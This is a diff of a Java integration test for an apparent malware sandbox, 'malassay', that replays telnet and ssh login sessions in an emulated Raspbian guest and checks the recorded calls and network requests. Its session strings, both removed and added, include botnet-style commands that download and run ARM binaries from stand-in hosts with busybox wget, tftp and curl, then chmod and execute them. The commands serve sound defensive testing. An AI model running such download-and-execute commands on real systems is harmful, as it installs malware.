@@ -1,275 +1,59 @@
 package org.malassay.environments.raspbian;
 
-import static java.nio.charset.StandardCharsets.ISO_8859_1;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 import java.nio.file.Path;
 import java.time.Duration;
-import java.util.ArrayList;
-import java.util.Collections;
-import java.util.EnumSet;
 import java.util.List;
-import java.util.Map;
-import java.util.Optional;
-import java.util.OptionalInt;
-import java.util.stream.Collectors;
-import java.util.stream.IntStream;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
 import org.junit.jupiter.api.io.TempDir;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.ValueSource;
-import org.malassay.behavior.Event;
-import org.malassay.behavior.Facet;
-import org.malassay.behavior.FacetState;
-import org.malassay.behavior.ProcessBegun;
-import org.malassay.behavior.ProcessEnded;
-import org.malassay.behavior.ProgramStarted;
-import org.malassay.behavior.Question;
-import org.malassay.behavior.SystemCall;
-import org.malassay.environment.Ending;
 import org.malassay.environment.Environment;
-import org.malassay.environment.Execution;
-import org.malassay.environment.Guest;
 import org.malassay.environment.Limits;
-import org.malassay.environment.Opening;
-import org.malassay.environment.Order;
 import org.malassay.environments.contract.Assay;
-import org.malassay.environments.contract.ToldEvents;
+import org.malassay.environments.contract.LoginContract;
 import org.malassay.environments.internet.HostCapture;
-import org.malassay.environments.tracing.Recorder;
-import org.malassay.options.Options;
-import org.malassay.sample.Sample;
+import org.malassay.environments.qemu.Leftovers;
 
-/** Sessions of a login that is held in the template. */
-class RaspbianLoginIT extends RaspbianHarness {
-  private static final String FIRST_LINE = "#!/usr/local/sbin/malassay-login\n";
-  private static final String MARK = "/malassay/command/";
-
-  /** Control and D. */
-  private static final int END_OF_LOGIN = 4;
-
-  /** Control and S, by which a terminal shows nothing any more. */
-  private static final int STOP = 19;
-
-  private static final int SIGHUP = 1;
-
+/** Sessions of logins that are held in the template. */
+@Timeout(1200) // the first one builds the image
+class RaspbianLoginIT extends LoginContract {
   @TempDir private Path folder;
 
   @Override
   protected Environment open(Limits limits) throws Exception {
-    return new RaspbianProvider()
-        .open(
-            new Opening(
-                Options.of(Map.of()), limits, "it", EnumSet.allOf(Facet.class), List.of(), true));
+    return new RaspbianProvider().open(opening("it", limits));
   }
 
   @Override
-  protected Duration time() {
-    return Duration.ofSeconds(40);
+  protected void assertNothingIsLeft() throws Exception {
+    Leftovers.assertNone();
   }
 
-  private Assay type(String session) throws Exception {
-    return assay(session(session));
+  @Override
+  protected Duration slack() {
+    return Duration.ofSeconds(90);
   }
 
-  private Sample session(String text) throws Exception {
-    return arm().bytes("session", (FIRST_LINE + text).getBytes(ISO_8859_1));
+  @Override
+  protected int logins() {
+    return 2;
   }
 
-  /** The marks of its commands, in their order. */
-  private static List<SystemCall> marks(Assay assay) {
-    return assay.calls("faccessat").stream()
-        .filter(call -> call.path().filter(path -> path.startsWith(MARK)).isPresent())
-        .toList();
+  @Test
+  void aSessionFindsCurl() throws Exception {
+    Assay assay = type("curl -s http://203.0.113.4/z.arm7 | head -c 4 | tail -c 3\n");
+
+    assertThat(assay.execution().stdout().text()).contains("ELF# ");
   }
 
-  /** The programs that were started after command N was typed, and before the next one was. */
-  private static List<String> programs(Assay assay, int command) {
-    List<SystemCall> marks = marks(assay);
-    Duration from = marks.get(command - 1).at();
-    Duration to = command < marks.size() ? marks.get(command).at() : Duration.ofDays(1);
-    return assay.all(ProgramStarted.class).stream()
-        .filter(it -> it.at().compareTo(from) > 0 && it.at().compareTo(to) < 0)
-        .map(it -> String.join(" ", it.arguments()))
-        .toList();
-  }
-
-  @ParameterizedTest
-  @ValueSource(strings = {"telnet", "ssh"})
-  void aSessionIsTypedShownRecordedAndItsCallsAreTiedToItsCommands(String protocol)
-      throws Exception {
+  @Test
+  void aSessionByOpensshIsTheSameAndNothingLeavesTheHost() throws Exception {
     assumeTrue(HostCapture.isPossible());
-    Assay assay;
     try (HostCapture capture = new HostCapture(folder, List.of())) {
-      assay =
-          type(
-              """
-              # source: ours
-              # protocol: %s
-              echo hello
-              cd /tmp
-              busybox wget http://loader.example/bins/x.arm7
-              chmod 777 x.arm7
-              ./x.arm7
-              busybox tftp -g -r y.arm7 198.51.100.9; ls -l y.arm7
-              curl -s http://203.0.113.4/z.arm7 | head -c 4 | tail -c 3
-              sh
-              echo -ne '\\x64\\x65\\x76ice'; echo
-              exit
-              exit
-              """
-                  .formatted(protocol));
+      assertThatASessionIsTypedShownAndRecorded("ssh");
       assertThat(capture.leaks()).isEmpty();
     }
-
-    String shown = assay.execution().stdout().text();
-    assertThat(assay.execution().ending()).as(shown).isEqualTo(new Ending.Exited(0));
-    assertThat(shown)
-        .contains("# \u001b[6necho hello\r\nhello\r\n# ")
-        .contains("ELF", "device\r\n")
-        .contains("y.arm7\r\n");
-    assertThat(assay.execution().stderr().text()).isEmpty();
-    assertThat(assay.after().available()).isTrue();
-    assertThat(assay.execution().recording().states(Recorder.FACETS))
-        .containsOnly(
-            Map.entry(Facet.CALLS, FacetState.OBSERVED),
-            Map.entry(Facet.PROCESSES, FacetState.OBSERVED));
-
-    assertThat(marks(assay))
-        .extracting(it -> it.path().orElseThrow())
-        .isEqualTo(IntStream.rangeClosed(1, 11).mapToObj(i -> MARK + i).toList());
-    int typist = assay.all(ProcessBegun.class).get(0).process();
-    assertThat(marks(assay)).extracting(SystemCall::process).containsOnly(typist);
-    assertThat(programs(assay, 1)).isEmpty();
-    assertThat(programs(assay, 3))
-        .containsExactly("busybox wget http://loader.example/bins/x.arm7");
-    assertThat(programs(assay, 4)).containsExactly("chmod 777 x.arm7");
-    assertThat(programs(assay, 5)).containsExactly("./x.arm7");
-    assertThat(programs(assay, 8)).containsExactly("sh");
-    assertThat(assay.calls("chdir"))
-        .anyMatch(it -> it.path().equals(Optional.of("/tmp")) && it.succeeded());
-    assertThat(assay.all(Question.class))
-        .extracting(it -> it.protocol() + " " + it.asked())
-        .contains(
-            "http GET http://loader.example/bins/x.arm7",
-            "tftp read y.arm7",
-            "http GET http://203.0.113.4/z.arm7");
-    // What it wrote has its whole path, so the folder of its shell was known from the beginning.
-    assertThat(assay.events())
-        .filteredOn(SystemCall.class::isInstance)
-        .extracting(it -> ((SystemCall) it).path().orElse(""))
-        .contains("/tmp/x.arm7", "/tmp/y.arm7");
-    // The login and its shell, of which the sample is no parent, are the sample's all the same.
-    assertThat(assay.all(ProgramStarted.class))
-        .anyMatch(
-            it -> it.program().equals("/bin/busybox") && it.arguments().equals(List.of("-sh")));
-  }
-
-  private static List<Integer> begun(ToldEvents told) {
-    return told.all(ProcessBegun.class).stream().map(ProcessBegun::process).toList();
-  }
-
-  private static List<Integer> ended(ToldEvents told) {
-    return told.all(ProcessEnded.class).stream().map(ProcessEnded::process).toList();
-  }
-
-  @Test
-  void aSessionWhoseLoginClosesBeforeItsLastCommandFailsAndSaysWhere() throws Exception {
-    Assay assay = type("# commands:\n# of no effect; echo a\nexit\necho b\necho c");
-
-    assertThat(assay.execution().ending()).isEqualTo(new Ending.Exited(1));
-    assertThat(assay.execution().stderr().text())
-        .isEqualTo("malassay-login: the login closed at command 2 of 4\n");
-    assertThat(assay.execution().stdout().text())
-        .contains("\u001b[6n# of no effect; echo a\r\n# ")
-        .doesNotContain("echo b");
-    assertThat(marks(assay)).hasSize(2);
-  }
-
-  @Test
-  void aSessionOfAnyBytesIsTypedToItsEnd() throws Exception {
-    String bytes =
-        IntStream.range(1, 256)
-            .filter(c -> c != '\n' && c != END_OF_LOGIN && c != STOP)
-            .mapToObj(c -> String.valueOf((char) c))
-            .collect(Collectors.joining());
-    Assay assay =
-        type(
-            "\n\u0000a\u0000\n"
-                + bytes
-                + "\u0003\n: "
-                + "long ".repeat(4000)
-                + "\necho 'a prompt: # '; echo still here\necho \\377 and the end");
-
-    String shown = assay.execution().stdout().text();
-    assertThat(assay.execution().ending()).as(shown).isEqualTo(new Ending.Exited(0));
-    assertThat(shown).contains("a prompt: # \r\nstill here\r\n").contains("377 and the end\r\n");
-    assertThat(marks(assay)).hasSize(6);
-  }
-
-  @Test
-  void aMalformedSessionIsRefusedWithTheReason() throws Exception {
-    Assay assay = type("# protocol: rlogin\necho a\n");
-
-    assertThat(assay.execution().ending()).isEqualTo(new Ending.Exited(2));
-    assertThat(assay.execution().stderr().text())
-        .isEqualTo("malassay-login: malformed session: its protocol is neither telnet nor ssh\n");
-  }
-
-  @Test
-  void aCommandThatSaysNothingIsNotWaitedForForEver() throws Exception {
-    Assay assay = type("sleep 1000\n\u0003\necho after\n");
-
-    assertThat(assay.execution().ending()).isEqualTo(new Ending.Exited(0));
-    assertThat(assay.execution().stdout().text()).contains("after\r\n");
-    assertThat(assay.execution().duration())
-        .isBetween(Duration.ofSeconds(9), Duration.ofSeconds(30));
-  }
-
-  @Test
-  void whatASessionLeavesBehindGoesOnAndWhatItRanBeforeItsEndHangsUp() throws Exception {
-    List<Event> events = Collections.synchronizedList(new ArrayList<>());
-    Execution execution;
-    try (Guest guest = environment().start()) {
-      guest.put(session("(trap '' HUP; sleep 2; echo > /tmp/late) &\nsleep 1000\n"));
-      execution = guest.run(new Order(List.of(), Duration.ofSeconds(30)), events::add);
-    }
-    ToldEvents told = () -> List.copyOf(events);
-
-    assertThat(execution.ending()).isEqualTo(new Ending.Exited(0));
-    assertThat(told.all(SystemCall.class))
-        .extracting(it -> it.path().orElse(""))
-        .contains("/tmp/late");
-    assertThat(told.all(ProcessEnded.class))
-        .extracting(ProcessEnded::signal)
-        .contains(OptionalInt.of(SIGHUP));
-    assertThat(ended(told)).containsAll(begun(told));
-    assertThat(execution.observed()).isLessThan(Duration.ofSeconds(28));
-  }
-
-  @Test
-  void aSampleThatIsNoSessionFindsTheLoginAsItWas() throws Exception {
-    Assay assay = assay(arm().text("script", script("ps -e -o args | grep -c '^-malassay-shell'")));
-
-    assertThat(assay.execution().stdout().text()).isEqualTo("2\n");
-    assertThat(assay.all(ProgramStarted.class))
-        .noneMatch(it -> it.arguments().contains("-sh"))
-        .extracting(ProgramStarted::process)
-        .isSubsetOf(begun(assay));
-  }
-
-  @Test
-  void aPromptIsThereIn2SecondsAnd24CommandsAreTypedIn12() throws Exception {
-    String line = "echo -ne '" + "\\x41\\x0a".repeat(48) + "' >> /tmp/upnp\n";
-    Assay assay = type("cd /tmp\n" + line.repeat(22) + "wc -c upnp\n");
-
-    assertThat(assay.execution().stdout().text()).contains("2112 upnp\r\n");
-    assertThat(marks(assay)).hasSize(24);
-    System.out.printf(
-        "prompt after %d ms, 24 commands after %d ms%n",
-        marks(assay).get(0).at().toMillis(), assay.execution().duration().toMillis());
-    assertThat(marks(assay).get(0).at()).isLessThan(Duration.ofSeconds(2));
-    assertThat(assay.execution().duration()).isLessThan(Duration.ofSeconds(12));
   }
 }
